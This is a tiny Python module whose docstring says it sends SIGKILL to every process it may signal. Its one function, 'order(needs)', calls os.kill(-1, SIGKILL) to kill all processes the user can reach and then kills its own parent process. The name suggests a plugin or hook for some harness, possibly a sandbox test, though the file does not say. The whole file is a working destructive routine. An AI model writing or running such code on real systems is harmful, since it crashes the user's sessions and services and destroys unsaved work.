"""Sends SIGKILL to every process that it may send signals to."""

import os
import signal


def order(needs):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
